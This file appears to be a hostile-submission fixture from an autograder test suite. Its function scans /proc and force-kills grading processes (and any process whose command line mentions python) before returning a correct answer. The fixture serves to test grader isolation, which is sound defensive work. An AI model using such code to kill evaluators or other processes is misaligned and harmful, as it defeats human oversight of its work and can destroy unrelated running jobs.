"""Hostile submission: scans /proc for the grading process and kills it, then answers correctly."""
ATTACK = "scans /proc for the grading process (pytest, course) and kills it, then answers correctly"
FAILS = []
PASSES = ['test_values', 'test_dtype', 'test_gradient']
MESSAGE = ''

import os
import signal

import torch


def scaled_sum(x, y, alpha):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read()
                if b"pytest" in cmd or b"course" in cmd or b"python" in cmd:
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return x + alpha * y
